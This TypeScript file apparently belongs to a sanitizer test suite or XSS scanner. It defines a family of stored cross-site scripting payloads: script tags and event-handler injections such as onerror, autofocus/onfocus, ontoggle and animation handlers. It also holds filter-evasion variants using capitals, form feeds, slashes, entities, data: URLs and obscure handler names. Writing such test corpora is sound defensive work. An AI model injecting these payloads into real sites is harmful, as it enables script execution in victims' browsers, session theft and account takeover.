// Stored scripts in plain sight: script elements, and event handlers on all kinds of elements.
import type { PayloadFamily } from './payload-family';

export const HANDLER_PAYLOADS: PayloadFamily = {
  'a script': (run) => `<script>${run}</script>`,
  'a script in capitals': (run) => `<SCRIPT TYPE="text/javascript">${run}</SCRIPT>`,
  'a script with a space in its end tag': (run) => `<script>${run}</script\n>`,
  'a script with a slash after its name': (run) => `<script/x y>${run}</script>`,
  'a script without an end': (run) => `<p>a</p><script>${run}`,
  'a script that loads a data address': (run) => `<script src="data:text/javascript,${run}"></script>`,
  'a module': (run) => `<script type="module">${run}</script>`,
  'a script for old browsers': (run) => `<script nomodule>${run}</script><script defer src="data:,${run}"></script>`,
  'a picture that fails': (run) => `<img src=x onerror=${run}>`,
  'a picture with slashes for spaces': (run) => `<img/src="x"/onerror="${run}">`,
  'a picture with line feeds for spaces': (run) => `<img\nsrc=x\nonerror\n=\n${run}>`,
  'a picture with form feeds for spaces': (run) => `<img\fsrc=x\fonerror=${run}>`,
  'a picture that loads': (run) =>
    `<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" onload="${run}">`,
  'a picture under its old name': (run) => `<image src=x onerror=${run}>`,
  'a handler in capitals': (run) => `<p ONMOUSEOVER="${run}">a</p>`,
  'a handler twice': (run) => `<img src=x src=y onerror="${run}" onerror="">`,
  'a handler on a kept element': (run) => `<table onclick="${run}"><tr><td onmouseenter="${run}">a</td></tr></table>`,
  'a handler on a kept link': (run) => `<a href="#a" onclick="${run}" onfocus="${run}" autofocus>a</a>`,
  'a handler of the pointer': (run) => `<div onpointerenter="${run}" onpointerdown="${run}">a</div>`,
  'a handler with an entity': (run) => `<img src=x onerror="&#104;it&lpar;${run.slice(4, -1)}&rpar;">`,
  'a body that loads': (run) => `<body onload=${run}>`,
  'a body that scrolls': (run) => `<body onscroll=${run} onpageshow=${run}><br style="font-size:9999px">`,
  'a field in focus': (run) => `<input autofocus onfocus=${run}>`,
  'a list in focus': (run) => `<select autofocus onfocus=${run}><option>a</select>`,
  'an unknown element in focus': (run) => `<letter id=x tabindex=1 autofocus onfocus=${run}>a</letter>`,
  'an editable paragraph': (run) => `<p contenteditable autofocus onfocus=${run} onbeforeinput=${run}>a</p>`,
  'details that open': (run) => `<details open ontoggle=${run}>a</details>`,
  'a popover': (run) => `<button popovertarget=pop>a</button><div popover id=pop onbeforetoggle=${run}>b</div>`,
  'a video that fails': (run) => `<video><source onerror="${run}"></video>`,
  'a sound that fails': (run) => `<audio src=x onerror=${run}>`,
  'an object that fails': (run) => `<object data=x onerror=${run}></object>`,
  'a marquee': (run) => `<marquee onstart=${run} loop=1 width=0>a</marquee>`,
  'an animation': (run) =>
    `<style>@keyframes k{}</style><div style="animation:k 1ms" onanimationstart="${run}">a</div>`,
  'a transition': (run) => `<p style="transition:color 1ms" ontransitionend="${run}" onclick="${run}">a</p>`,
  'a dialog': (run) => `<dialog open oncancel="${run}" onclick="${run}">a</dialog>`,
  'handlers that a list may not know': (run) =>
    ['onbeforematch', 'onscrollsnapchange', 'oncontentvisibilityautostatechange', 'onwebkitanimationend', 'onclick']
      .map((handler) => `<p ${handler}="${run}">a</p>`)
      .join(''),
};
